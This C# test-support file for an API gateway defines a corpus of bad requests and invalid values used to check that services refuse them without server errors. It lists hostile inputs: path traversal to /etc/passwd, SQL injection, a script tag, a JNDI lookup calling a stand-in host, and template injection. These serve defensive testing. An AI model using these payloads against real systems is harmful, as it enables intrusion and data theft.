namespace Intelligence.Gateway.Tests.BadInput;

/// <summary>What the system must do with a corpus item.</summary>
internal enum Expectation
{
    /// <summary>The item is invalid: a 4xx problem naming its rule (and the field, when it is a validation error).</summary>
    Refusal,

    /// <summary>
    /// The item may well be valid (a hostile string in a free-text search filter is just a search that finds
    /// nothing): any answer but a 5xx, and a problem if it refuses.
    /// </summary>
    NoServerError,
}

/// <summary>
/// One bad request of the corpus, relative to a service: sent as is straight to the service, and under
/// <c>/api/{service}</c> through the gateway.
/// </summary>
/// <param name="Kind">The family of fault, counted in the report: <c>malformed-json</c>, <c>wrong-type</c>, <c>csv-broken-quoting</c>.</param>
/// <param name="Detail">What exactly is wrong, for the list of violations.</param>
/// <param name="Body">The raw body; null for none.</param>
/// <param name="ContentType">The Content-Type header, null for none.</param>
/// <param name="Status">The one status the item must get, when only one is right (413, 415, 422).</param>
/// <param name="Field">The field a 400 must name in its <c>errors</c>.</param>
internal sealed record CorpusItem(
    string Service,
    string Kind,
    string Detail,
    string Method,
    string Path,
    byte[]? Body,
    string? ContentType,
    Expectation Expectation = Expectation.Refusal,
    int? Status = null,
    string? Field = null)
{
    /// <summary>The endpoint the item is for: its method and route pattern.</summary>
    public string Endpoint { get; init; } = string.Empty;
}

/// <summary>The hostile strings the corpus puts wherever a format rule makes them invalid.</summary>
internal static class HostileValues
{
    /// <summary>Path traversal, injection and Unicode edge cases, each with its family.</summary>
    public static readonly IReadOnlyList<(string Kind, string Value)> Strings =
    [
        ("traversal", "../../etc/passwd"),
        ("traversal", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ("traversal", @"..\..\windows\win.ini"),
        ("injection", "' OR 1=1 --"),
        ("injection", "<script>alert(1)</script>"),
        ("injection", "${jndi:ldap://x.example/a}"),
        ("injection", "{{7*7}}"),
        ("unicode", "rtl\u202Eoverride"),
        ("unicode", "zero\u200Bwidth"),
        ("unicode", "nul\u0000byte"),
        ("unicode", new string('a', 5000)),
    ];

    /// <summary>For route parameters: the same strings, and one whose only fault is a trailing line feed (regex <c>$</c> forgives it).</summary>
    public static IEnumerable<(string Kind, string Value)> ForPaths =>
        Strings.Select(s => s.Value.Length > 1000 ? (s.Kind, new string('a', 1500)) : s).Append(("unicode", "valid-looking-id\n"));

    /// <summary>Invalid calendar dates and date-shaped strings that are not <c>yyyy-MM-dd</c>.</summary>
    public static readonly IReadOnlyList<string> Dates = ["2024-02-30", "2024-13-45", "24-1-1", "99999-01-01", "", "2024/01/01", "yesterday"];

    /// <summary>
    /// Texts that name no currency. A three-letter code outside ISO 4217 ("ZZZ") is kept as stated, pending a rate, and
    /// a symbol with one meaning ("€") is read as its code; a symbol several currencies share ("¥") is refused.
    /// </summary>
    public static readonly IReadOnlyList<string> Currencies = ["US", "DOLLAR", "¥", "1ZZ"];

    public static readonly IReadOnlyList<string> Countries = ["QQ", "USA", "1X"];
}
